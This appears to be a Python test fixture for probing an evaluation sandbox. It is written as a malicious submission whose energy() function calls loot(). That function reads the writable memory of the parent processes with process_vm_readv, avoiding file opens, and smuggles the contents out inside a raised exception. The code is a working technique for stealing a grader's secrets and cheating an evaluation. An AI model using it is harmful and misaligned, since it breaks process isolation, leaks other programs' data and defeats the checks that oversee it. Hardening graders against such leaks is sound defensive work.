"""Reads the memory of the processes above with process_vm_readv, which opens no file.

fails: energy, private
passes: everything else
control: leaks
"""

import ctypes

from accomplice import Found, above, contents, tell
from solution import Critic, descend, estimate, loss, nearest, noise  # noqa: F401


class Span(ctypes.Structure):
    _fields_ = (("base", ctypes.c_void_p), ("length", ctypes.c_size_t))


def loot():
    libc, pieces = ctypes.CDLL(None, use_errno=True), []
    for process in above():
        for line in contents(f"/proc/{process}/maps").decode().splitlines():
            span, rights, *_ = line.split()
            start, end = (int(number, 16) for number in span.split("-"))
            if rights.startswith("rw") and end - start < 64_000_000 and len(pieces) < 400:
                buffer = ctypes.create_string_buffer(end - start)
                here, there = Span(ctypes.addressof(buffer), end - start), Span(start, end - start)
                if libc.process_vm_readv(process, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0:
                    pieces.append(buffer.raw)
    return tell(*pieces)


def energy(x):
    raise Found(loot())
